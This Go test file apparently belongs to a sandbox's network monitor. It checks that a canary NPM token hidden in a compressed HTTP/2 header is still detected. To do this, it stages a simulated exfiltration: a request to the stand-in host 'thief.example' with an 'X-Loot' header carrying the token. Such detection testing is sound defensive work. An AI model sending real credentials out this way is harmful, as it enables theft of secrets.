package network_test

import (
	"crypto/rand"
	"io"
	"net/http"
	"testing"

	"github.com/miekg/dns"

	"github.com/sallyport-dev/sallyport/sandbox/canary"
	"github.com/sallyport-dev/sallyport/sandbox/network"
	"github.com/sallyport-dev/sallyport/sandbox/observation"
)

// Headers of HTTP/2 are compressed by a code of their own, in which a secret
// looks like nothing.
func TestASecretInACompressedHeaderIsFound(t *testing.T) {
	set, err := canary.New(rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	g := newGuest(t, func(c *network.Config) { c.Canaries = set })
	client := g.browser(dns.TypeA)
	client.Transport.(*http.Transport).ForceAttemptHTTP2 = true
	r, err := http.NewRequestWithContext(t.Context(), "GET", "https://thief.example/", nil)
	if err != nil {
		t.Fatal(err)
	}
	r.Header.Set("X-Loot", set.Value(canary.NPMToken))
	for range 2 {
		a, err := client.Do(r)
		if err != nil {
			t.Fatal(err)
		}
		_, _ = io.Copy(io.Discard, a.Body)
		a.Body.Close()
		if a.ProtoMajor != 2 {
			t.Fatalf("spoke %s", a.Proto)
		}
	}
	f := g.flow("the secret", func(f observation.Flow) bool { return len(f.Canaries) > 0 })
	if f.Domain != "thief.example" || len(f.Canaries) != 1 || f.Canaries[0].Name != canary.NPMToken || f.Canaries[0].OwnDomain {
		t.Errorf("recorded as %+v", f.Canaries)
	}
}
